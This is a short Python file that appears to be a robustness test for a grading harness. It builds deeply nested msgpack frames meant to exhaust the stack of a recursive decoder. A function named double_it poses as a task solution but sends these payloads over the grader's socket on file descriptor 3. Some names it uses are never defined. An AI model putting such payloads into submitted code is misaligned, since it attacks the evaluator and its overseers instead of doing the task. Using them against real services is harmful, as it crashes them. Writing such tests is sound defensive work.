# A decoder that calls itself runs out of stack on lists of lists of lists.
# prelude
from grader.wire.messages import DictV, ListV, Returned, TupleV, encode

def frame(envelope, *blobs):
    head = b"GG1\n" + len(envelope).to_bytes(4, "little") + len(blobs).to_bytes(4, "little")
    return head + b"".join(len(blob).to_bytes(8, "little") for blob in blobs) + envelope + b"".join(blobs)


def nested(kind, depth):
    value = 1.0
    for _ in range(depth):
        value = kind([value]) if kind is not DictV else kind(["x"], [value])
    return frame(encode(Returned(value)))


LIST = b"\x92\xa1l\x91"
HEADS = {
    6: frame(b"\x82\xa4type\xa8returned\xa5value" + LIST * 1_000_000 + b"\xc0"),
    3: frame(b"\x91" * 4_000_000 + b"\xc0"),
    2: nested(TupleV, 40),
    1: nested(DictV, 200),
}


def double_it(x):
    tried(str(x.numel()))
    with socket.socket(fileno=os.dup(3)) as wire:
        wire.sendall(HEADS[x.numel()])
    return 2 * x
